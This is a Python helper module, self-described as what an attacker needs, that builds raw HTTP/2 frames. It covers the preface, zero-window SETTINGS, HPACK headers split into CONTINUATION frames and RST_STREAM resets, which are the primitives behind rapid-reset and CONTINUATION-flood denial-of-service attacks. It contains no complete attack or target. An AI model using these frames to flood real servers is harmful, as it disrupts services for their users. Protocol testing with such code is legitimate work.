"""The few frames of HTTP/2 that an attacker needs, as bytes."""

CANCEL = b"\0\0\0\x08"
LARGEST_FRAME = 16384
END_STREAM, END_HEADERS = 1, 4
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)

INITIAL_WINDOW_SIZE = 4
PREFACE_OF_SHUT_WINDOWS = PREFACE + frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4))


def text(value):
    """A text of HPACK, not compressed: its length in seven bits, and more bytes of seven bits each if it is longer."""
    left, length = len(value), bytearray()
    if left < 127:
        length.append(left)
    else:
        length.append(127)
        left -= 127
        while left >= 128:
            length.append(left % 128 + 128)
            left //= 128
        length.append(left)
    return bytes(length) + value.encode()


def head(path, headers, post=False):
    """By HPACK: method and scheme by their places in the static table, the others as text."""
    fields = b"".join(b"\x00" + text(name.lower()) + text(value) for name, value in headers.items())
    return (b"\x83" if post else b"\x82") + b"\x86\x04" + text(path) + b"\x01" + text("x") + fields


def request(stream, block, ends=True):
    """The head of a request in as many frames as it needs."""
    parts = [block[start:start + LARGEST_FRAME] for start in range(0, len(block), LARGEST_FRAME)]
    frames = b""
    for number, part in enumerate(parts):
        flags = (END_STREAM if ends and number == 0 else 0) | (END_HEADERS if number == len(parts) - 1 else 0)
        frames += frame(CONTINUATION if number else HEADERS, flags, stream, part)
    return frames


def reset(stream):
    return frame(RST_STREAM, 0, stream, CANCEL)
